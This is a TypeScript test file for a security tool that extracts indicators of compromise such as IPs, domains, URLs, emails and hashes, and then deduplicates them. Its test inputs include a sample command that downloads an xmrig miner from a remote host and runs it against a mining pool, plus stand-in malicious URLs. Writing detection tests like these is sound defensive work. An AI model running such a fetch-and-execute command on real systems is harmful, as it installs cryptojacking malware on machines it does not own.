import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { extractIocs, type Ioc, iocKey, mergeIocs } from "../../../functions/src/domain/ioc.js";

const SHA256 = "3f5a1c9e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19";
const SHA1 = "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12";
const MD5 = "9e107d9d372bb6826bd81d3542a419d6";

const of = (iocs: Ioc[], type: Ioc["type"]) => iocs.filter((i) => i.type === type).map((i) => i.value);

describe("extractIocs: IP addresses", () => {
  const text =
    "conn 45.9.148.108:3333 from 10.128.0.7; peers 172.16.5.4 172.31.255.1 172.32.0.1 192.168.1.1 " +
    "127.0.0.1 0.0.0.0 239.1.1.1 169.254.169.254 100.64.3.2 100.128.0.1 9.9.9.9";

  it("keeps public addresses and drops private, loopback, link-local, shared and multicast ones", () => {
    assert.deepEqual(of(extractIocs(text), "ip"), ["45.9.148.108", "172.32.0.1", "100.128.0.1", "9.9.9.9"]);
  });

  it("keeps every address when private ones are asked for", () => {
    assert.deepEqual(of(extractIocs(text, { includePrivateIps: true }), "ip"), [
      "45.9.148.108",
      "10.128.0.7",
      "172.16.5.4",
      "172.31.255.1",
      "172.32.0.1",
      "192.168.1.1",
      "127.0.0.1",
      "0.0.0.0",
      "239.1.1.1",
      "169.254.169.254",
      "100.64.3.2",
      "100.128.0.1",
      "9.9.9.9",
    ]);
  });

  it("ignores things that only look like addresses", () => {
    assert.deepEqual(of(extractIocs("version 1.2.3, octets 999.1.1.1 and 256.256.256.256"), "ip"), []);
  });

  it("lists a repeated address once", () => {
    assert.deepEqual(of(extractIocs("9.9.9.9 then 9.9.9.9 again"), "ip"), ["9.9.9.9"]);
  });
});

describe("extractIocs: domains, URLs and emails", () => {
  it("finds domains with a known TLD, lowercased, and leaves file names alone", () => {
    const iocs = extractIocs("dig pool.supportxmr.com; ping Evil-C2.RU; cat config.json /etc/passwd main.go");
    assert.deepEqual(of(iocs, "domain"), ["pool.supportxmr.com", "evil-c2.ru"]);
  });

  it("finds URLs and strips trailing punctuation", () => {
    const iocs = extractIocs(
      "fetched (see https://evil.example.ru/stage2.bin?id=7). Also http://45.9.148.108:8080/x.sh, ok",
    );
    assert.deepEqual(of(iocs, "url"), [
      "https://evil.example.ru/stage2.bin?id=7",
      "http://45.9.148.108:8080/x.sh",
    ]);
    assert.deepEqual(of(iocs, "domain"), [], "the URL's host is not listed again as a domain");
    assert.deepEqual(of(iocs, "ip"), [], "the URL's host is not listed again as an IP");
  });

  it("lists a URL once when it appears with and without trailing punctuation", () => {
    const iocs = extractIocs("downloaded http://evil.ru/a. Then ran http://evil.ru/a again");
    assert.deepEqual(iocs, [{ type: "url", value: "http://evil.ru/a" }]);
  });

  it("finds emails and does not list their domain separately", () => {
    const iocs = extractIocs(
      "granted roles/owner to mallory.contractor@gmail.com by ci@acme-prod.iam.gserviceaccount.com",
    );
    assert.deepEqual(of(iocs, "email"), [
      "mallory.contractor@gmail.com",
      "ci@acme-prod.iam.gserviceaccount.com",
    ]);
    assert.deepEqual(of(iocs, "domain"), []);
  });
});

describe("extractIocs: hashes", () => {
  it("finds sha256, sha1 and md5, lowercased, and counts a sha256 once", () => {
    const iocs = extractIocs(`sha256=${SHA256.toUpperCase()} sha1=${SHA1} md5=${MD5}`);
    assert.deepEqual(of(iocs, "hash"), [SHA256, SHA1, MD5]);
  });

  it("does not see an md5 or sha1 inside a sha256", () => {
    const iocs = extractIocs(`the binary hashed to ${SHA256}`);
    assert.deepEqual(iocs, [{ type: "hash", value: SHA256 }]);
  });

  it("ignores hex runs of other lengths", () => {
    assert.deepEqual(
      of(extractIocs("nonce 0123456789abcdef and 0123456789abcdef0123456789abcdef01"), "hash"),
      [],
    );
  });
});

describe("extractIocs: a realistic command line", () => {
  it("returns each kind once, in a stable order", () => {
    const cmd =
      `curl -fsSL http://198.51.100.23/xmrig.tar.gz -o /tmp/x.tgz && /tmp/xmrig -o pool.minexmr.ru:4444 ` +
      `--tls-fingerprint ${SHA256} -u ops@evil.ru --bind 10.0.0.5 --peer 45.9.148.108`;
    assert.deepEqual(extractIocs(cmd), [
      { type: "url", value: "http://198.51.100.23/xmrig.tar.gz" },
      { type: "email", value: "ops@evil.ru" },
      { type: "ip", value: "45.9.148.108" },
      { type: "hash", value: SHA256 },
      { type: "domain", value: "pool.minexmr.ru" },
    ]);
  });

  it("finds nothing in plain prose", () => {
    assert.deepEqual(extractIocs("The step found no connections in the window."), []);
  });
});

describe("mergeIocs and iocKey", () => {
  it("dedups across lists, case-insensitively for hashes and domains, keeping the first context and order", () => {
    const merged = mergeIocs(
      [
        { type: "domain", value: "pool.supportxmr.com", context: "SCC indicator" },
        { type: "ip", value: "45.9.148.108", context: "SCC indicator" },
      ],
      [
        { type: "domain", value: "POOL.SupportXMR.com", context: "DNS log" },
        { type: "hash", value: SHA256, context: "file" },
        { type: "hash", value: SHA256.toUpperCase(), context: "process" },
        { type: "ip", value: "45.9.148.108", context: "flow log" },
        { type: "url", value: "http://evil.ru/A" },
        { type: "url", value: "http://evil.ru/a" },
        { type: "principal", value: "ci@acme-prod.iam.gserviceaccount.com" },
        { type: "email", value: "ci@acme-prod.iam.gserviceaccount.com" },
      ],
    );
    assert.deepEqual(merged, [
      { type: "domain", value: "pool.supportxmr.com", context: "SCC indicator" },
      { type: "ip", value: "45.9.148.108", context: "SCC indicator" },
      { type: "hash", value: SHA256, context: "file" },
      { type: "url", value: "http://evil.ru/A" },
      { type: "url", value: "http://evil.ru/a" },
      { type: "principal", value: "ci@acme-prod.iam.gserviceaccount.com" },
      { type: "email", value: "ci@acme-prod.iam.gserviceaccount.com" },
    ]);
  });

  it("keys by type and value", () => {
    assert.equal(iocKey({ type: "domain", value: "Evil.RU" }), "domain:evil.ru");
    assert.equal(iocKey({ type: "url", value: "http://Evil.ru/A" }), "url:http://Evil.ru/A");
    assert.notEqual(iocKey({ type: "ip", value: "1.2.3.4" }), iocKey({ type: "domain", value: "1.2.3.4" }));
  });

  it("returns an empty list for no input", () => {
    assert.deepEqual(mergeIocs(), []);
    assert.deepEqual(mergeIocs([], []), []);
  });
});
